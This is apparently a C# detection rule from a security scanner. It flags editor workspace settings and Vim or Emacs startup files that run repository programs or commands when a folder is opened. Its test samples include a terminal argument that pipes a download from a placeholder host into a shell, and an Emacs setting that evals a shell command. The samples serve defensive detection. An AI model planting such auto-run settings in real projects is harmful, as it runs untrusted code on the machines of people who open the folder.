using System.Collections.Immutable;
using ApprovalGuard.Detection.AgentConfig.Commands;
using ApprovalGuard.Detection.AgentConfig.Reading;
using ApprovalGuard.Findings;

namespace ApprovalGuard.Detection.AgentConfig.Examiners;

/// <summary>Settings of editors that name a program: it runs when the folder is opened, or a terminal, or a file is saved.</summary>
internal sealed class EditorSettings : IExaminer
{
    private static readonly RuleInfo Rule = new()
    {
        Id = "editor-setting",
        Category = Category.AgentConfig,
        Severity = Severity.Medium,
        Title = "editor setting that runs a program",
        Why = "The program runs on the machine of everybody who opens the folder.",
        Do = "Check the program, or leave the choice to each person's own settings.",
        Reference = "https://code.visualstudio.com/docs/editor/workspace-trust",
        Positives =
        [
            new("{ \"terminal.integrated.profiles.linux\": { \"bash\": { \"path\": \"./tools/bash\" } } }\n", ".vscode/settings.json"),
            new("{ \"python.defaultInterpreterPath\": \"${workspaceFolder}/tools/python\" }\n", ".vscode/settings.json"),
            new("{ \"git.path\": \"./tools/git\" }\n", ".vscode/settings.json"),
            new("{ \"settings\": { \"terminal.integrated.shellArgs.linux\": [\"-c\", \"curl -s https://x.example | sh\"] } }\n", "shop.code-workspace"),
            new("((nil . ((eval . (shell-command \"id\")))))\n", ".dir-locals.el"),
        ],
        Negatives =
        [
            new("{ \"python.defaultInterpreterPath\": \"${workspaceFolder}/.venv\" }\n", ".devcontainer/devcontainer.json"),
            new("{ \"python.defaultInterpreterPath\": \"${workspaceFolder}/.venv/bin/python\", \"typescript.tsdk\": \"node_modules/typescript/lib\" }\n", ".vscode/settings.json"),
            new("{ \"terminal.integrated.profiles.linux\": { \"bash\": { \"path\": \"/bin/bash\" } }, \"editor.formatOnSave\": true }\n", ".vscode/settings.json"),
            new("((c-mode . ((indent-tabs-mode . nil))))\n", ".dir-locals.el"),
        ],
    };

    private static readonly string[] PathEnds =
        ["executablePath", ".path", ".serverPath", ".server.path", "InterpreterPath", ".pythonPath", ".nodePath", ".binPath", ".binaryPath", ".command", ".runtime", ".tsdk", ".gitPath", ".toolPath", ".cmakePath", ".makePath"];

    private static readonly string[] CommandEnds = ["overrideCommand", "extraCommand", ".shellCommand", ".executorMap", ".cmd"];

    /// <summary>Folders that tools fill and nobody commits.</summary>
    private static readonly string[] Installed = [".venv/", "venv/", "env/", ".env/", "node_modules/", ".yarn/sdks/", "vendor/bin/", ".direnv/", ".nix-profile/", "target/", ".tox/", ".pixi/", ".conda/"];

    private static readonly ImmutableArray<string> TerminalPrefixes = ["terminal.integrated.profiles.", "terminal.integrated.automationProfile.", "terminal.integrated.shell.", "terminal.external."];

    /// <inheritdoc/>
    public IReadOnlyList<RuleInfo> Rules => [Rule];

    /// <inheritdoc/>
    public IEnumerable<Remark> Look(ConfigFile file) => file.Kind != ConfigKind.Editor ? []
        : file.Format == ConfigFormat.Lines ? OfStartupFile(file)
        : file.Format == ConfigFormat.Json ? file.Content.Settings.Select(Judge).OfType<Remark>()
        : [];

    private static Remark? Judge(Setting setting)
    {
        if (setting.Value is not { Length: > 0 } value)
        {
            return null;
        }

        var isTerminal = setting.Path.Any(static name => TerminalPrefixes.Any(prefix => name.StartsWith(prefix, StringComparison.OrdinalIgnoreCase)));
        var isArgument = setting.Path.Any(static name => name.StartsWith("terminal.integrated.shellArgs", StringComparison.OrdinalIgnoreCase)) || (isTerminal && setting.Name == "args");
        if (isArgument)
        {
            return CommandRisk.Of(value) is { } does ? Remark.Grave(Rule, setting, Severity.High, $"every new terminal runs a command; it {does}") : null;
        }

        if (isTerminal && setting.Name is not "source" and not "icon" && IsInFolder(value))
        {
            return Remark.Grave(Rule, setting, Severity.High, "every new terminal runs a program of the repository");
        }

        var name = setting.Name;
        if (EndsInOneOf(name, CommandEnds))
        {
            return CommandRisk.Of(value) is { } risk
                ? Remark.Grave(Rule, setting, Severity.High, $"{Shown(name)} runs a command; it {risk}")
                : IsInFolder(value) ? Remark.New(Rule, setting, Severity.Medium, $"{Shown(name)} runs a program of the repository") : null;
        }

        return EndsInOneOf(name, PathEnds) && IsInFolder(value) ? Remark.New(Rule, setting, Severity.Medium, $"{Shown(name)} is a program of the repository") : null;
    }

    private static bool EndsInOneOf(string name, string[] ends) => Array.Exists(ends, end => name.EndsWith(end, StringComparison.OrdinalIgnoreCase));

    /// <summary>Whether a path leads into the repository, and not into a folder that tools fill.</summary>
    private static bool IsInFolder(string path)
    {
        var inner = path.Replace("${workspaceFolder}", ".", StringComparison.Ordinal).Replace("${workspaceRoot}", ".", StringComparison.Ordinal).Replace('\\', '/');
        var isRelative = inner.StartsWith("./", StringComparison.Ordinal) || inner.StartsWith("../", StringComparison.Ordinal)
            || (inner.Contains('/', StringComparison.Ordinal) && inner[0] is not ('/' or '~' or '$') && !inner.Contains(":/", StringComparison.Ordinal));
        return isRelative && !Array.Exists(Installed, folder => $"/{inner}/".Contains("/" + folder, StringComparison.Ordinal));
    }

    /// <summary>Files that Vim and Emacs run when a file beside them is opened.</summary>
    private static IEnumerable<Remark> OfStartupFile(ConfigFile file)
    {
        var isEmacs = file.IsNamed(".dir-locals.el");
        if (!isEmacs && !file.IsNamed(".exrc", ".nvimrc", ".nvim.lua", ".lvimrc"))
        {
            yield break;
        }

        foreach (var line in ScriptLine.AllIn(file.Content.Text))
        {
            if (isEmacs && line.Text[0] != ';' && line.Text.Contains("eval", StringComparison.Ordinal))
            {
                yield return Remark.Ordinary(Rule, line.ToSetting(), Severity.Medium, "code that Emacs runs when a file is opened");
            }
            else if (!isEmacs && CommandRisk.OfScriptLine(line.Text) is { } risk)
            {
                yield return Remark.Grave(Rule, line.ToSetting(), Severity.High, $"startup file of Vim; it {risk}");
            }
        }
    }

    private static string Shown(string name) => name.Length > 60 ? name[..60] : name;
}
